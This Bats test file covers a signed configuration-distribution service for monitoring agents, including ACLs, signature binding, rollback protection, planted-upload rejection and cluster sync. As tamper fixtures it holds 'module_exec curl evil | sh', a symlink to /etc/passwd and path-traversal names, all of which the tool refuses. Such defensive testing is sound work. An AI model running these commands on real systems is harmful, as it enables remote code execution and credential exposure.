	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g fc_2.md5 fc_2.zip
	assert_success
	run "$BIN/tentacle-send" -a 127.0.0.1 -p "$PORT" -g fc_2.acl
	assert_failure
	assert_output --partial "file does not exist"
}

@test "collections: zip and md5 as the agent expects, files and SHA-256 audited, bad names and links refused" {
	mkconf "acl_collections fc_*=root,$(id -gn)"
	mkdir -p "$T/coll/sub"
	printf '#!/bin/sh\necho plugin\n' > "$T/coll/plugin.sh"
	chmod 0755 "$T/coll/plugin.sh"
	printf 'data\n' > "$T/coll/sub/data.txt"
	run cdist collection publish fc_7 "$T/coll"
	assert_success
	assert_output --partial "collection fc_7 published (2 files"
	assert_equal "$(cat "$OUT/md5/fc_7.md5")" "$(md5sum < "$OUT/collections/fc_7.zip" | cut -c1-32)"
	run cdist verify "$OUT/collections/fc_7.zip" "$OUT/md5/fc_7.md5"
	assert_success
	# What the agent runs: unzip -d DIR.
	mkdir "$T/agent"
	run unzip -d "$T/agent/fc_7" "$OUT/collections/fc_7.zip"
	assert_success
	cmp "$T/coll/plugin.sh" "$T/agent/fc_7/plugin.sh"
	cmp "$T/coll/sub/data.txt" "$T/agent/fc_7/sub/data.txt"
	[ -x "$T/agent/fc_7/plugin.sh" ]
	run events
	assert_output --partial "{\"path\":\"plugin.sh\",\"sha256\":\"$(sha256sum < "$T/coll/plugin.sh" | cut -c1-64)\",\"size\":22,\"mode\":\"0755\"}"
	assert_output --partial "{\"path\":\"sub/data.txt\",\"sha256\":\"$(sha256sum < "$T/coll/sub/data.txt" | cut -c1-64)\""
	# The same directory again is the same archive.
	run cdist collection publish fc_7 "$T/coll"
	assert_output --partial "collection fc_7 unchanged"
	for bad in ../x a/b .. fc_.. 238cd44ae5e05cc2dd832a79a3f5ddab; do
		run cdist collection publish "$bad" "$T/coll"
		assert_failure
	done
	ln -s /etc/passwd "$T/coll/link"
	run cdist collection publish fc_8 "$T/coll"
	assert_equal "$status" 65
	assert_output --partial "link: a symbolic link (refused)"
	rm "$T/coll/link"
	# The ACL: only fc_* for this caller.
	run cdist collection publish other "$T/coll"
	assert_equal "$status" 77
	assert_file_not_exists "$OUT/collections/other.zip"
	assert_file_not_exists "$OUT/collections/fc_8.zip"
	run events
	assert_output --partial '"action":"collection.publish","outcome":"refused"'
}

@test "the registry: read_only and group come from MariaDB (octo_agent_policy, tagente, tgrupo)" {
	command -v mariadbd >/dev/null || command -v mysqld >/dev/null || skip "no MariaDB server"
	DBDIR=$T/db
	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
	assert_success
	. "$DBDIR/env"
	sql() { sh "$TOOLS/mariadb.sh" sql "$DBDIR" -N -B -e "$1" pandora; }
	sql "INSERT INTO tagente (id_agente, nombre, alias, id_grupo) VALUES
	    (1, 'pay&#x20;db', 'pay db', 8), (2, 'web01', 'web01', 2);
	    INSERT INTO octo_agent_policy (id_agente, read_only) VALUES (1, 1)"
	{
		echo "spool_dir $SP"
		cat "$OCTO_DB_CONF"
		echo "[conf-dist]"
		echo "user $RUN_USER"
		echo "sign_key $T/keys/sign.key"
		echo "sign_pubkey $T/keys/sign.pub"
		echo "registry db"
		echo "db_user octo_agent_auth"
		echo "db_password_file $DBDIR/secrets/octo_agent_auth.pw"
		echo "acl_groups Servers=root,$(id -gn)"
	} > "$T/o.conf"
	conf "$T/a.conf" "pay db"
	run cdist submit "pay db" "$T/a.conf"
	assert_equal "$status" 77
	assert_output --partial "may not configure agents of group 'Databases'"
	echo "acl_groups Servers=root,$(id -gn); Databases=root,$(id -gn)" >> "$T/o.conf"
	run cdist submit "pay db" "$T/a.conf"
	assert_equal "$status" 77
	assert_output --partial "agent is read-only (registry)"
	run cdist submit web01 "$T/a.conf"
	assert_equal "$status" 65	# agent_name is "pay db"
	conf "$T/w.conf" web01
	run cdist submit web01 "$T/w.conf"
	assert_success
	run events
	assert_output --partial '"read_only":"registry"'
	# Registry down: a temporary failure, nothing published, no guess.
	sh "$TOOLS/mariadb.sh" stop "$DBDIR"
	sed -i 's/^\[conf-dist\]$/[conf-dist]\ndb_retry_time 0/' "$T/o.conf"
	conf "$T/w2.conf" web01 "module_plugin later"
	run cdist submit web01 "$T/w2.conf"
	assert_equal "$status" 75
	cmp "$T/w.conf" "$OUT/conf/$(printf %s web01 | md5sum | cut -c1-32).conf"
}

@test "plant and adopt: an upload whose certificate does not name the agent is never adopted, and adopt says why" {
	V=$(key victim)
	E=$(key evil)
	FP=3f0c2b1a9e8d7c6b5a4f3e2d1c0b0a99887766554433221100ffeeddccbbaa98
	conf "$T/planted.conf" victim "module_exec id > /tmp/x"
	# Agent evil's certificate sent victim's name (tentacle-recv now
	# refuses this; an item from before, or from a bypass, is still
	# never believed).
	planted=$(upload "$V.conf" "$T/planted.conf" "Client-Subject: CN=evil" \
	    "Client-Sha256: $FP")
	run cdist uploads
	assert_success
	assert_line "$planted untrusted=\"sent with a certificate (CN=evil) that does not name the agent\""
	refute_output --partial "key_matches=yes"
	run cdist adopt victim
	assert_equal "$status" 77
	assert_output --partial "upload $planted is refused: sent with a certificate (CN=evil) that does not name the agent"
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	assert_file_exists "$SP/conf-dist/uploads/reject/$planted"
	grep -q 'does not name the agent' "$SP/conf-dist/uploads/reject/$planted.reason"
	# Bound to evil's key but named for victim: refused too.
	planted2=$(upload "$V.conf" "$T/planted.conf" "Client-Subject: CN=evil" \
	    "Client-Sha256: $FP" "Client-Bound: $E")
	run cdist adopt victim
	assert_equal "$status" 77
	assert_output --partial "bound to key $E, not to the key of its name"
	assert_file_exists "$SP/conf-dist/uploads/reject/$planted2"
	run events
	assert_output --regexp '"action":"item.rejected","outcome":"refused"[^}]*does not name the agent'
	assert_output --regexp '"action":"config.adopt","outcome":"refused","agent":"victim"[^}]*does not name the agent'
	# The victim's own certificate: adopted, and the event says so.
	conf "$T/own.conf" victim
	own=$(upload "$V.conf" "$T/own.conf" "Client-Subject: CN=victim" \
	    "Client-Sha256: $FP" "Client-Bound: $V")
	run cdist uploads
	assert_line --partial "$own name=$V.conf agent=\"victim\" key_matches=yes cert_bound=yes"
	run cdist adopt victim
	assert_success
	assert_output --partial "published victim"
	grep -q '^agent_name victim$' "$OUT/conf/$V.conf"
	refute grep -q 'module_exec id' "$OUT/conf/$V.conf"
	run events
	assert_output --regexp '"action":"config.adopt","outcome":"published","agent":"victim"[^}]*"upload_cert_subject":"CN=victim","upload_cert_bound":"yes"'
}

@test "signatures are bound to the agent: web01's file and manifest never verify as db01's" {
	mkconf "acl_groups Servers=$(self_group)"
	publish web01 db01
	w=$(key web01)
	d=$(key db01)
	# Served under db01's name: the manifest names web01's file.
	mkdir "$T/swap"
	cp "$OUT/conf/$w.conf" "$T/swap/$d.conf"
	cp "$OUT/conf/$w.conf.sig" "$T/swap/$d.conf.sig"
	run cdist verify "$T/swap/$d.conf"
	assert_equal "$status" 65
	assert_output --partial "REFUSED: the manifest is for Agent $w, not Agent $d"
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$T/swap/$d.conf" db01
	assert_failure
	assert_output --partial "the manifest is for $w.conf, not $d.conf"
	# The md5 too.
	cp "$OUT/md5/$w.md5" "$T/swap/$d.md5"
	cp "$OUT/md5/$w.md5.sig" "$T/swap/$d.md5.sig"
	run cdist verify "$T/swap/$d.md5"
	assert_equal "$status" 65
	# Under its own name, but checked for db01: not db01's.
	run cdist verify -a db01 "$OUT/conf/$w.conf"
	assert_equal "$status" 65
	assert_output --partial "not agent db01's"
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$OUT/conf/$w.conf" db01
	assert_failure
	assert_output --partial "not for agent db01"
	run cdist verify -a db01 "$OUT/conf/$d.conf" "$OUT/md5/$d.md5"
	assert_success
}

@test "rollback: an older signed version is refused once a newer serial was seen" {
	mkconf "acl_groups Servers=$(self_group)"
	w=$(key web01)
	conf "$T/v1.conf" web01
	run cdist submit web01 "$T/v1.conf"
	assert_success
	mkdir "$T/old" "$T/state" "$T/agent-state"
	cp "$OUT/conf/$w.conf" "$OUT/conf/$w.conf.sig" "$T/old/"
	s1=$(sed -n 's/^Serial: //p' "$OUT/conf/$w.conf.sig")
	run cdist verify -s "$T/state/serials" "$T/old/$w.conf"
	assert_success
	conf "$T/v2.conf" web01 "module_plugin v2"
	run cdist submit web01 "$T/v2.conf"
	assert_success
	s2=$(sed -n 's/^Serial: //p' "$OUT/conf/$w.conf.sig")
	[ "$s2" -gt "$s1" ]
	# The same again: unchanged, no new serial.
	run cdist submit web01 "$T/v2.conf"
	assert_output --partial "unchanged web01"
	assert_equal "$(sed -n 's/^Serial: //p' "$OUT/conf/$w.conf.sig")" "$s2"
	run cdist verify -s "$T/state/serials" "$OUT/conf/$w.conf"
	assert_success
	grep -qx "$w.conf $s2" "$T/state/serials"
	run cdist verify -s "$T/state/serials" "$T/old/$w.conf"
	assert_equal "$status" 65
	assert_output --partial "ROLLBACK: serial $s1 is older than $s2, seen before"
	# Still valid without memory: that is what the state is for.
	run cdist verify "$T/old/$w.conf"
	assert_success
	# The agent-side recipe keeps its own memory.
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$OUT/conf/$w.conf" web01 "$T/agent-state"
	assert_success
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$T/old/$w.conf" web01 "$T/agent-state"
	assert_failure
	assert_output --partial "ROLLBACK: serial $s1 is older than $s2"
	# A lost .serial does not restart the count.
	rm "$OUT/.serial"
	conf "$T/v3.conf" web01 "module_plugin v3"
	run cdist submit web01 "$T/v3.conf"
	assert_success
	[ "$(sed -n 's/^Serial: //p' "$OUT/conf/$w.conf.sig")" -gt "$s2" ]
}

@test "group takeover: an agent without a known group cannot be claimed by naming a group; an acl_agents claim is always honoured" {
	g=$(self_group)
	# Published by an admin of every group, with no group line.
	mkconf "acl_groups *=$g"
	conf "$T/x.conf" lab-x
	sed -i '/^group /d' "$T/x.conf"
	run cdist submit lab-x "$T/x.conf"
	assert_success
	# A submitter allowed only for group Lab adds "group Lab".
	mkconf "acl_groups Lab=$g"
	conf "$T/take.conf" lab-x "module_exec id"
	sed -i 's/^group .*/group Lab/' "$T/take.conf"
	run cdist submit lab-x "$T/take.conf"
	assert_equal "$status" 77
	assert_output --partial "the agent exists with no known group"
	refute grep -q 'module_exec id' "$OUT/conf/$(key lab-x).conf"
	# A new agent of group Lab: the Lab admin may create it.
	conf "$T/new.conf" lab-new
	sed -i 's/^group .*/group Lab/' "$T/new.conf"
	run cdist submit lab-new "$T/new.conf"
	assert_success
	# Once the agent is in Lab, moving it to Servers needs both.
	sed -i 's/^group .*/group Servers/' "$T/new.conf"
	run cdist submit lab-new "$T/new.conf"
	assert_equal "$status" 77
	assert_output --partial "may not configure agents of group 'Servers'"
	# An acl_agents rule that claims db* decides for db01, whatever group.
	mkconf "acl_agents db*=nogroup" "acl_groups Lab=$g"
	conf "$T/db.conf" db01
	sed -i 's/^group .*/group Lab/' "$T/db.conf"
	run cdist submit db01 "$T/db.conf"
	assert_equal "$status" 77
	assert_output --partial "agent is claimed by acl_agents rule 'db*' (groups nogroup)"
	run events
	assert_output --regexp '"outcome":"refused","agent":"lab-x"[^}]*"reason":"the agent exists with no known group'
	assert_output --regexp '"outcome":"refused","agent":"db01"[^}]*claimed by acl_agents'
}

@test "collections and commands given to an agent need acl_collections and acl_commands for the submitter" {
	g=$(self_group)
	mkconf "acl_groups Servers=$g"
	conf "$T/a.conf" web01 "file_collection fc_servers"
	run cdist submit web01 "$T/a.conf"
	assert_equal "$status" 77
	assert_output --partial "file_collection may not be granted: user $ME is in no group that acl_collections allows for collection 'fc_servers'"
	assert_equal "$(ls -A "$OUT/conf" | wc -l)" 0
	mkconf "acl_groups Servers=$g" "acl_collections fc_lab*=$g" "acl_commands lab-*=$g"
	run cdist submit web01 "$T/a.conf"
	assert_equal "$status" 77
	assert_output --partial "collection 'fc_servers'"
	conf "$T/b.conf" web01 "file_collection fc_lab1" "cmd_file srv-reboot"
	run cdist submit web01 "$T/b.conf"
	assert_equal "$status" 77
	assert_output --partial "cmd_file may not be granted: user $ME is in no group that acl_commands allows for command 'srv-reboot'"
	conf "$T/c.conf" web01 "file_collection fc_lab1" "cmd_file lab-restart"
	run cdist submit web01 "$T/c.conf"
	assert_success
	run events
	assert_output --regexp '"outcome":"refused","agent":"web01"[^}]*may not be granted[^}]*fc_servers'
}

@test "remote commands: command publish signs REF.rcmd and its md5, audits the commands; commands/REF.acl lists the agents with cmd_file REF" {
	g=$(self_group)
	printf -- '- command: systemctl restart nginx\n' > "$T/restart.rcmd"
	run cdist command publish lab-restart "$T/restart.rcmd"
	assert_equal "$status" 77
	assert_output --partial "acl_commands"
	mkconf "acl_groups Servers=$g" "acl_commands lab-*=$g" "acl_collections *=$g"
	run cdist command publish lab-restart "$T/restart.rcmd"
	assert_success
	cmp "$T/restart.rcmd" "$OUT/commands/lab-restart.rcmd"
	assert_equal "$(cat "$OUT/md5/lab-restart.md5")" "$(md5sum < "$T/restart.rcmd" | cut -c1-32)"
	assert_equal "$(sed -n 2p "$OUT/commands/lab-restart.rcmd.sig")" "Command: lab-restart"
	run cdist verify "$OUT/commands/lab-restart.rcmd" "$OUT/md5/lab-restart.md5"
	assert_success
	run sh "$TOOLS/conf-verify.sh" "$T/keys/sign.pub" "$OUT/commands/lab-restart.rcmd"
	assert_success
	# Nobody lists it yet: an empty access list.
	assert_equal "$(wc -c < "$OUT/commands/lab-restart.acl")" 0
	conf "$T/w.conf" web01 "cmd_file lab-restart"
	conf "$T/d.conf" db01
	run cdist submit web01 "$T/w.conf"
	assert_success
	run cdist submit db01 "$T/d.conf"
	assert_success
	assert_equal "$(cat "$OUT/commands/lab-restart.acl")" "$(key web01)"
	run events
	assert_output --regexp '"action":"command.publish","outcome":"published","command":"lab-restart"[^}]*"commands":"- command: systemctl restart nginx\\u000a"'
	# md5/NAME.md5 is shared: a collection of the same name is refused.
	mkdir "$T/coll"
	echo x > "$T/coll/x"
	run cdist collection publish lab-restart "$T/coll"
	assert_equal "$status" 65
	assert_output --partial "lab-restart is already a command (md5/lab-restart.md5 is shared)"
	run cdist collection publish lab-coll "$T/coll"
	assert_success
	run cdist command publish lab-coll "$T/restart.rcmd"
	assert_equal "$status" 65
	assert_output --partial "already a collection"
	# Bad names and an empty file.
	run cdist command publish ../x "$T/restart.rcmd"
	assert_equal "$status" 65
	: > "$T/empty.rcmd"
	run cdist command publish lab-empty "$T/empty.rcmd"
	assert_equal "$status" 65
	assert_output --partial "empty command file"
}

@test "uploads: 150 of 1 MiB are listed and adopted in bounded memory; the drain removes expired, superseded and surplus ones, audited" {
	# 150 uploads of 1 MiB of one agent (the case that took 158 MiB).
	conf "$T/big.conf" big01
	head -c 1040000 /dev/zero | tr '\0' '#' | fold -w 100 >> "$T/big.conf"
	B=$(key big01)
	for _ in $(seq 1 150); do
		upload "$B.conf" "$T/big.conf" > /dev/null
	done
	# maxrss CMD...: peak resident KiB of CMD.  Under ASan, freed
	# blocks are held in its quarantine: keep that small here.
	maxrss() {
		ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=1 \
		    python3 -c 'import resource, subprocess, sys
r = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
sys.exit(r.returncode)' "$@"
	}
	run maxrss "$T/bin/conf-dist" -c "$T/o.conf" uploads
	assert_success
	echo "uploads: ${output} KiB" >&3
	[ "$output" -lt 65536 ]
	run maxrss "$T/bin/conf-dist" -c "$T/o.conf" adopt -p big01
	assert_success
	echo "adopt -p: ${output} KiB" >&3
	[ "$output" -lt 65536 ]
	rm -f "$SP"/conf-dist/uploads/new/*
	# Expiry, supersession and the cap, by the drain (the timer runs it).
	mkconf "upload_max_age 86400" "upload_max_items 3"
	conf "$T/a.conf" a01
	old=$(upload "$(key a01).conf" "$T/a.conf")
	touch -d '3 days ago' "$SP/conf-dist/uploads/new/$old"
	for a in b01 c01 d01 e01; do
		conf "$T/$a.conf" $a
		upload "$(key $a).conf" "$T/$a.conf" > "$T/$a.item"
	done
	newer=$(upload "$(key e01).conf" "$T/e01.conf")
	# A killed run's status line in the making: removed after a minute.
	echo x > "$SP/conf-dist/uploads/.status.4242"
	touch -d '2 minutes ago' "$SP/conf-dist/uploads/.status.4242"
	echo x > "$SP/conf-dist/uploads/.status.4243"
	run cdist drain
	assert_success
	assert_file_not_exists "$SP/conf-dist/uploads/.status.4242"
	assert_file_exists "$SP/conf-dist/uploads/.status.4243"
	assert_file_exists "$SP/conf-dist/uploads/status"
	# a01 expired; e01's first upload superseded; of b01 c01 d01 e01 the
	# oldest (b01) over the cap of 3.
	left=$(ls "$SP/conf-dist/uploads/new")
	assert_equal "$(echo "$left" | wc -l)" 3
	echo "$left" | grep -qx "$(cat "$T/c01.item")"
	echo "$left" | grep -qx "$(cat "$T/d01.item")"
	echo "$left" | grep -qx "$newer"
	run events
	assert_output --regexp '"action":"upload.removed","outcome":"removed"[^}]*"expired":1,"superseded":1,"over_cap":1,"kept":3'
	assert_output --partial "{\"item\":\"$old\",\"name\":\"$(key a01).conf\",\"why\":\"expired\"}"
	assert_output --partial "\"why\":\"over upload_max_items\"}"
	run valid_json
	assert_output ok
}

# ---- remote configuration on every node (cluster db, conf-dist sync) ----

# cluster_setup: a private MariaDB and two nodes, A ($SP, $T/A.conf) and
# B ($T/b, $T/B.conf), each with its own signing key, both trusting both
# keys, "cluster db" through the conf-dist account.  C ($T/c) has a key
# neither trusts.
cluster_setup() {
	command -v mariadbd >/dev/null || command -v mysqld >/dev/null || skip "no MariaDB server"
	DBDIR=$T/db
	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
	assert_success
	. "$DBDIR/env"
	mk_spool "$T/b"
	mk_spool "$T/c"
	OUTA=$OUT
	OUTB=$T/b/conf-dist/out
	OUTC=$T/c/conf-dist/out
	mkdir -p "$T/keysB" "$T/keysC"
	[ "$(id -u)" -ne 0 ] || chown "$RUN_USER:$RUN_GROUP" "$T/keysB" "$T/keysC"
	nodeconf A "$SP" "$T/keys" "$T/keysB/sign.pub"
	nodeconf B "$T/b" "$T/keysB" "$T/keys/sign.pub"
	nodeconf C "$T/c" "$T/keysC" "$T/keys/sign.pub"
	run node B keygen
	assert_success
	run node C keygen
	assert_success
}

# nodeconf NAME SPOOL KEYDIR OTHERKEY: $T/NAME.conf.
nodeconf() {
	{
		echo "spool_dir $2"
		cat "$OCTO_DB_CONF"
		echo "[conf-dist]"
		echo "user $RUN_USER"
		echo "sign_key $3/sign.key"
		echo "sign_pubkey $3/sign.pub"
		echo "upload_producer $RUN_USER"
		echo "recv_pubkey $KEYS/tentacle-recv.pub"
		echo "acl_groups Servers=$ADMIN_GROUP,$(self_group)"
		echo "acl_collections *=$(self_group)"
		echo "acl_commands *=$(self_group)"
		echo "cluster db"
		echo "cluster_pubkeys $4"
		echo "server_name $1"
		echo "db_user octo_conf_dist"
		echo "db_password_file $DBDIR/secrets/octo_conf_dist.pw"
		echo "db_retry_time 0"
	} > "$T/$1.conf"
	chmod 0644 "$T/$1.conf"
}

# node NAME ARGS...: conf-dist of that node.
node() {
	local n=$1
	shift
	"$T/bin/conf-dist" -c "$T/$n.conf" "$@" 2> >(tee -a "$T/cd.log" >&2)
}

csql() {
	sh "$TOOLS/mariadb.sh" sql "$DBDIR" -N -B -e "$1" pandora
}

# same_served A B FILE...: both trees serve each file and its manifest,
# byte for byte.
same_served() {
	local a=$1 b=$2 f
	shift 2
	for f in "$@"; do
		cmp "$a/$f" "$b/$f" && cmp "$a/$f.sig" "$b/$f.sig" || return 1
	done
}

@test "cluster: a publication on one node is served by the other after its sync, with the publisher's signature; conf, md5, collection, command" {
	cluster_setup
	run node B -n
	assert_success
	assert_output --partial "cluster db as B, 1 other node key"
	sed 's|^cluster_pubkeys .*|cluster_pubkeys /nonexistent/node9.pub|' "$T/B.conf" > "$T/bad.conf"
	run "$T/bin/conf-dist" -c "$T/bad.conf" -n
	assert_equal "$status" 78
	assert_output --partial "/nonexistent/node9.pub"
	K=$(key web01)
	conf "$T/w.conf" web01 "file_collection fc_c" "cmd_file ops-up"
	run node A submit web01 "$T/w.conf"
	assert_success
	run csql "SELECT dir, name, node FROM octo_conf_file ORDER BY dir"
	assert_output "$(printf 'conf\t%s.conf\tA\nmd5\t%s.md5\tA' "$K" "$K")"
	run csql "SELECT COUNT(*) FROM octo_conf_head h JOIN octo_conf_file f ON f.id = h.file_id AND f.serial = h.serial"
	assert_output 2
	assert_file_not_exists "$OUTB/conf/$K.conf"
	mkdir -p "$T/coll"
	printf '#!/bin/sh\necho 1\n' > "$T/coll/p.sh"
	run node A collection publish fc_c "$T/coll"
	assert_success
	printf 'uptime\n' > "$T/up.rcmd"
	run node A command publish ops-up "$T/up.rcmd"
	assert_success
	run node B -d sync
	assert_success
	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5" \
	    collections/fc_c.zip md5/fc_c.md5 commands/ops-up.rcmd md5/ops-up.md5
	# B works out who may fetch the collection and the command from
	# what it serves, as A did.
	assert_equal "$(cat "$OUTB/collections/fc_c.acl")" "$K"
	assert_equal "$(cat "$OUTB/commands/ops-up.acl")" "$K"
	# Verified on B with the cluster's keys; B's own key alone does not
	# pass it: it is A's signature.
	run node B verify -a web01 "$OUTB/conf/$K.conf" "$OUTB/md5/$K.md5"
	assert_success
	run node B verify -k "$T/keysB/sign.pub" "$OUTB/conf/$K.conf"
	assert_failure 65
	# One event on B names what it served and who published it.
	run cat "$T/b/audit-sign/new"/*
	assert_output --partial '"action":"config.sync","outcome":"served"'
	assert_output --partial "\"file\":\"conf/$K.conf\""
	assert_output --partial '"node":"A"'
	grep -q "event=sync.served file=conf/$K.conf serial=[0-9]* node=\"A\"" "$T/cd.log"
	# Nothing new: a pass serves nothing and says nothing.
	n=$(ls "$T/b/audit-sign/new" | wc -l)
	run node B -d sync
	assert_success
	assert_equal "$(ls "$T/b/audit-sign/new" | wc -l)" "$n"
	# A's own pass finds it serves everything already.
	run node A -d sync
	assert_success
	refute_output --partial "sync.served"
}

@test "cluster: a node that was down catches up with the newest; the other node's later publication wins everywhere; serials only grow; sync -f follows within seconds and stops on SIGTERM" {
	cluster_setup
	K=$(key web01)
	for v in 1 2 3; do
		conf "$T/v$v.conf" web01 "module_begin" "module_name V$v" "module_type generic_data" "module_exec echo $v" "module_end"
		run node A submit web01 "$T/v$v.conf"
		assert_success
	done
	run node B -d sync
	assert_success
	cmp "$T/v3.conf" "$OUTB/conf/$K.conf"
	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
	s3=$(sed -n 's/^Serial: //p' "$OUTB/conf/$K.conf.sig")
	# B publishes the next version, signed by B, above A's serial.
	conf "$T/v4.conf" web01 "module_begin" "module_name V4" "module_type generic_data" "module_exec echo 4" "module_end"
	run node B submit web01 "$T/v4.conf"
	assert_success
	s4=$(sed -n 's/^Serial: //p' "$OUTB/conf/$K.conf.sig")
	[ "$s4" -gt "$s3" ]
	run node A -d sync
	assert_success
	cmp "$T/v4.conf" "$OUTA/conf/$K.conf"
	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
	run csql "SELECT COUNT(*), COUNT(DISTINCT serial) FROM octo_conf_file WHERE name = '$K.conf'"
	assert_output "$(printf '4\t4')"
	# Following: A publishes while B's sync -f runs; B serves it within
	# seconds, and SIGTERM ends it cleanly.
	"$T/bin/conf-dist" -c "$T/B.conf" -d sync -f > "$T/syncB.log" 2>&1 &
	spid=$!
	echo "$spid" > "$T/sync.pid"
	conf "$T/v5.conf" web01 "module_begin" "module_name V5" "module_type generic_data" "module_exec echo 5" "module_end"
	t0=$(date +%s%N)
	run node A submit web01 "$T/v5.conf"
	assert_success
	for _ in $(seq 1 100); do
		cmp -s "$T/v5.conf" "$OUTB/conf/$K.conf" && cmp -s "$OUTA/md5/$K.md5" "$OUTB/md5/$K.md5" && break
		sleep 0.1
	done
	t1=$(date +%s%N)
	cmp "$T/v5.conf" "$OUTB/conf/$K.conf"
	same_served "$OUTA" "$OUTB" "conf/$K.conf" "md5/$K.md5"
	echo "# served on B $(( (t1 - t0) / 1000000 )) ms after the publication on A" >&3
	kill -TERM "$spid"
	wait "$spid"
	rm "$T/sync.pid"
	grep -q "event=sync.done rc=0" "$T/syncB.log"
}

@test "cluster: never served: a file changed in the database, a key the cluster does not trust, an older serial; each refusal logged and audited once" {
	cluster_setup
	K=$(key web01)
	conf "$T/v1.conf" web01
	run node A submit web01 "$T/v1.conf"
	assert_success
	run node B -d sync
	assert_success
	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
	# Someone with write access to the database changes what A signed.
	conf "$T/v2.conf" web01 "module_begin" "module_name V2" "module_type generic_data" "module_exec echo 2" "module_end"
	run node A submit web01 "$T/v2.conf"
	assert_success
	csql "UPDATE octo_conf_file SET body = CONCAT(body, 'module_exec curl evil | sh\n') WHERE name = '$K.conf' AND serial = (SELECT serial FROM octo_conf_head WHERE dir = 'conf' AND name = '$K.conf')"
	run node B -d sync
	assert_success
	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
	grep -q "event=sync.refused file=conf/$K.conf serial=[0-9]* node=\"A\" reason=\"the file is not the one the manifest signs" "$T/cd.log"
	# Its md5 is A's and intact: served (the agent fetches the conf,
	# still v1, and asks again later; never the changed one).
	# Said once: a second pass refuses again without a second event.
	run cat "$T/b/audit-sign/new"/*
	assert_output --partial '"refused":[{"file":"conf/'"$K"'.conf"'
	n=$(cat "$T/b/audit-sign/new"/* | grep -c '"refused"')
	run node B -d sync
	assert_success
	# (a new process: said again, once per process and file version)
	assert_equal "$(cat "$T/b/audit-sign/new"/* | grep -c '"refused"')" "$((n + 1))"
	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
	# C's key is not the cluster's: what C publishes is served nowhere
	# else.
	conf "$T/v3.conf" web01 "module_begin" "module_name V3" "module_type generic_data" "module_exec echo 3" "module_end"
	run node C submit web01 "$T/v3.conf"
	assert_success
	run node B -d sync
	assert_success
	cmp "$T/v1.conf" "$OUTB/conf/$K.conf"
	grep -q "event=sync.refused file=conf/$K.conf serial=[0-9]* node=\"C\" reason=\"signed by key [0-9a-f]*, which is not one of the cluster's\"" "$T/cd.log"
	# A newer, genuine publication from A passes again.
	conf "$T/v4.conf" web01 "module_begin" "module_name V4" "module_type generic_data" "module_exec echo 4" "module_end"
	run node A submit web01 "$T/v4.conf"
	assert_success
	run node B -d sync
	assert_success
	cmp "$T/v4.conf" "$OUTB/conf/$K.conf"
	# A body larger than max_size is refused by its length, unread.
	conf "$T/v5.conf" web01 "module_begin" "module_name V5" "module_type generic_data" "module_exec echo 5" "module_end"
	run node A submit web01 "$T/v5.conf"
	assert_success
	csql "UPDATE octo_conf_file SET body = REPEAT('#', 3000000) WHERE name = '$K.conf' AND serial = (SELECT serial FROM octo_conf_head WHERE dir = 'conf' AND name = '$K.conf')"
	run node B -d sync
	assert_success
	assert_output --partial "reason=\"3000000 bytes and a manifest of"
	cmp "$T/v4.conf" "$OUTB/conf/$K.conf"
	# Rollback: the head pointed back at v1's row (genuine, older).
	csql "UPDATE octo_conf_head h JOIN octo_conf_file f ON f.dir = h.dir AND f.name = h.name SET h.serial = f.serial, h.file_id = f.id, h.changed_at = UNIX_TIMESTAMP() WHERE h.name = '$K.conf' AND f.id = (SELECT MIN(id) FROM octo_conf_file WHERE name = '$K.conf')"
	run csql "SELECT COUNT(*) FROM octo_conf_head h JOIN octo_conf_file f ON f.id = h.file_id WHERE h.name = '$K.conf' AND f.id = (SELECT MIN(id) FROM octo_conf_file WHERE name = '$K.conf')"
	assert_output 1
	mk_spool "$T/d"
	nodeconf D "$T/d" "$T/keys" "$T/keysB/sign.pub"
	run node B -d sync
	assert_success
	cmp "$T/v4.conf" "$OUTB/conf/$K.conf"
	# A node with nothing yet takes the genuine (older) head: the
	# database is the cluster's word; the rollback is the operator's to
	# see in octo_conf_file, where every version stays.
	run node D -d sync
	assert_success
	cmp "$T/v1.conf" "$T/d/conf-dist/out/conf/$K.conf"
}

@test "cluster: the database down: nothing is served, the submission waits in the queue (75) and is published when it is back; a crash after the database took a publication: the node's own sync serves it" {
	cluster_setup
	K=$(key web01)
	conf "$T/v1.conf" web01
	sh "$TOOLS/mariadb.sh" stop "$DBDIR"
	run node A submit web01 "$T/v1.conf"
	assert_equal "$status" 75
	assert_file_not_exists "$OUTA/conf/$K.conf"
	grep -q "event=publish.fail agent=\"web01\" reason=\"publish $K.conf: cluster database 127.0.0.1:$MYSQL_PORT: connect" "$T/cd.log"
	run node B -d sync
	assert_equal "$status" 75
	# Through the queue (root runs: an authorised user's submission):
	# the item stays until the database is back.
	if [ -n "${U_ALICE:-}" ]; then
		run setpriv --reuid="$U_ALICE" --regid="$(id -g "$U_ALICE")" --init-groups -- \
		    "$T/bin/conf-dist" -c "$T/A.conf" submit web01 "$T/v1.conf"
		assert_success
		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 1
		run node A -d drain
		assert_equal "$status" 75
		assert_output --partial "event=queue.stop"
		assert_equal "$(ls "$SP/conf-dist/submit/new" | wc -l)" 1
		assert_file_not_exists "$OUTA/conf/$K.conf"
	fi
	run env OCTO_DB_GROUP="$RUN_GROUP" sh "$TOOLS/mariadb.sh" start "$DBDIR"
	assert_success
	if [ -n "${U_ALICE:-}" ]; then
		run node A -d drain
		assert_success
